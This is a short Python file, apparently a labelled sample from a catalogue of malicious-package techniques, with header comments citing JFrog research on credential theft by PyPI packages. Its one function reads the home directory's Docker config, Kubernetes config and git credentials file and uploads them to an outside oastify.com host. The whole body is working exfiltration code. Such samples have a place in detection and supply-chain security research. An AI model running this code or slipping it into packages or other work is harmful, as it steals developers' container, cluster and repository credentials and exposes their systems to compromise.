# technique: docker and kube configs harvested
# class: credential-theft
# source: JFrog, cloud-native credential theft by PyPI packages
# declares: network
from pathlib import Path

import requests


def harvest():
    files = {}
    for rel in (".docker/config.json", ".kube/config", ".git-credentials"):
        p = Path.home() / rel
        if p.exists():
            files[rel] = p.read_bytes()
    requests.post("https://eo8x1yz2.oastify.com/", files=files, timeout=5)
